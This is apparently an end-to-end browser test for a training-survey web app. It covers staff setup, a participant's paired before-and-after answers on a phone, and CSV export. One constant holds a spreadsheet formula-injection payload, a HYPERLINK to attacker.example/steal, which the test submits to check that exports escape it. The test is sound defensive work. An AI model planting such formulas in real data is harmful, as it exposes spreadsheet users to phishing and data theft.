"""A whole training in real browsers: staff set it up, a participant answers on a phone
before and after with the same personal code, staff see the pair and export the answers."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from flask import Flask
from playwright.sync_api import Browser, BrowserContext, Page, expect

from survey_app.auth import create_user
from survey_app.extensions import db
from tests.browser.conftest import TIMEOUT_MS
from tests.browser.test_participant_form import fill_needs_assessment, group, point

pytestmark = pytest.mark.browser

EMAIL = "organiser@example.org"
PASSWORD = "correct horse battery staple"
TITLE = "Regional workshop, Putrajaya"
#: Typed by a participant into a free-text answer; a spreadsheet would run it as a formula.
FORMULA = '=HYPERLINK("https://attacker.example/steal","Click for the slides")'
POST_SESSIONS = [
    "UNTOC and its protocols: the basics",
    "How the review mechanism works",
    "Strategies for engaging with government",
    "Case studies from the region",
    "Action planning",
]
CONFIDENCE_ROWS = [
    "Engaging with government",
    "Taking part in the UNTOC review mechanism",
    "Advocacy and policy dialogue",
    "Data collection and research",
    "Victim and witness support",
    "Digital literacy and online safety",
]


@pytest.fixture
def organiser(app: Flask, fast_password_hashing: None) -> str:
    with app.app_context():
        create_user(db.session(), EMAIL, PASSWORD, "staff")
        db.session.commit()
    return EMAIL


@pytest.fixture
def staff_context(browser: Browser) -> Iterator[BrowserContext]:
    """A desktop browser for the organiser, kept apart from the participant's phone."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    context.set_default_timeout(TIMEOUT_MS)
    yield context
    context.close()


# --- steps -------------------------------------------------------------------------------


def log_in(page: Page, base_url: str) -> None:
    page.goto(f"{base_url}/staff/login")
    page.get_by_label("Email").fill(EMAIL)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("heading", name="Trainings", level=1)).to_be_visible()


def create_training(page: Page) -> None:
    page.get_by_role("link", name="New training").click()
    page.get_by_label("Title").fill(TITLE)
    page.get_by_label("Place").fill("Putrajaya, Malaysia")
    page.get_by_label("First day").fill("2027-01-15")
    page.get_by_label("Last day").fill("2027-01-17")
    page.get_by_label("Organiser").fill("UNODC")
    page.get_by_label("Questionnaire before the training").select_option("untoc-needs-assessment")
    page.get_by_label("Questionnaire after the training").select_option("untoc-post-training")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading", name=TITLE, level=1)).to_be_visible()
    expect(page.get_by_role("status")).to_contain_text("Training created as a draft")


def participant_link(page: Page, phase: str) -> str:
    """The link as staff copy it from the training page."""
    link = page.locator(f'[data-phase="{phase}"] a.participant-link')
    text = link.inner_text().strip()
    assert text == link.get_attribute("href")
    return text


def fill_code(page: Page, letters: str, day: str, digits: str) -> None:
    code = group(page, "Your personal code")
    code.get_by_label("First two letters of your mother's first name").fill(letters)
    code.get_by_label("Day of the month you were born").fill(day)
    code.get_by_label("Last two digits of your phone number").fill(digits)


def rate_rows(page: Page, prompt: str, rows: list[str], value: int) -> None:
    matrix = group(page, prompt)
    for row in rows:
        point(group(matrix, row), value).check()


def fill_post_training(page: Page) -> None:
    """The required questions of the post-training evaluation."""
    page.get_by_label("Non-governmental organisation").check()
    page.get_by_label("In which country is your organisation based?").select_option(
        label="Malaysia"
    )
    point(group(page, "Overall, how satisfied are you with the training?"), 5).check()
    rate_rows(page, "How useful was each session for your work?", POST_SESSIONS, 4)
    rate_rows(page, "How confident are you now in each of these?", CONFIDENCE_ROWS, 4)


def download_csv(page: Page, *, free_text: bool) -> list[list[str]]:
    """Download the pre-phase CSV from the dashboard; returns its rows."""
    page.get_by_label("Export the responses").select_option("pre")
    page.get_by_label("Include free-text answers").set_checked(free_text)
    with page.expect_download() as info:
        page.get_by_role("button", name="Download CSV").click()
    download = info.value
    assert download.suggested_filename.endswith(".csv")
    assert download.failure() is None
    text = Path(download.path()).read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


# --- the test ----------------------------------------------------------------------------


def test_staff_run_a_training_and_export_a_paired_participants_answers(
    live_server: str,
    organiser: str,
    staff_context: BrowserContext,
    new_phone_page: Callable[..., Page],
):
    staff = staff_context.new_page()
    log_in(staff, live_server)
    create_training(staff)
    expect(staff.locator(".status")).to_have_text("draft")
    staff.get_by_role("button", name="Open collection").click()
    expect(staff.locator(".status")).to_have_text("open")
    pre_link = participant_link(staff, "pre")
    post_link = participant_link(staff, "post")
    assert re.fullmatch(rf"{re.escape(live_server)}/t/[\w-]{{43}}", pre_link)

    # The participant, on their own phone: no staff cookie, the first morning.
    phone = new_phone_page()
    phone.goto(pre_link)
    expect(phone.get_by_role("heading", level=1)).to_contain_text("Needs assessment")
    fill_code(phone, "Ma", "7", "42")
    fill_needs_assessment(phone, skip=frozenset({"comments"}))
    phone.get_by_label("Is there anything else we should know").fill(FORMULA)
    phone.get_by_role("button", name="Submit").click()
    expect(phone.get_by_role("heading", name="Thank you")).to_be_visible()

    # The last afternoon: the same code, typed a little differently.
    phone.goto(post_link)
    expect(phone.get_by_role("heading", level=1)).to_contain_text("Post-training evaluation")
    fill_code(phone, "MA", "07", "42")
    fill_post_training(phone)
    phone.get_by_role("button", name="Submit").click()
    thanks = phone.get_by_role("status")
    expect(thanks).to_contain_text("Thank you")
    expect(thanks).to_contain_text("matched with the answers you gave before the training")

    # Back on the organiser's dashboard.
    staff.reload()
    expect(staff.locator('[data-figure="pre"]')).to_have_text("1")
    expect(staff.locator('[data-figure="post"]')).to_have_text("1")
    expect(staff.locator('[data-figure="pairs"]')).to_have_text("1")

    without_text = download_csv(staff, free_text=False)
    assert len(without_text) == 2  # the header and one response
    assert not any("HYPERLINK" in cell for row in without_text for cell in row)

    header, *rows = download_csv(staff, free_text=True)
    [row] = rows
    cells = dict(zip(header, row, strict=True))
    assert "'" + FORMULA in cells.values()
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)
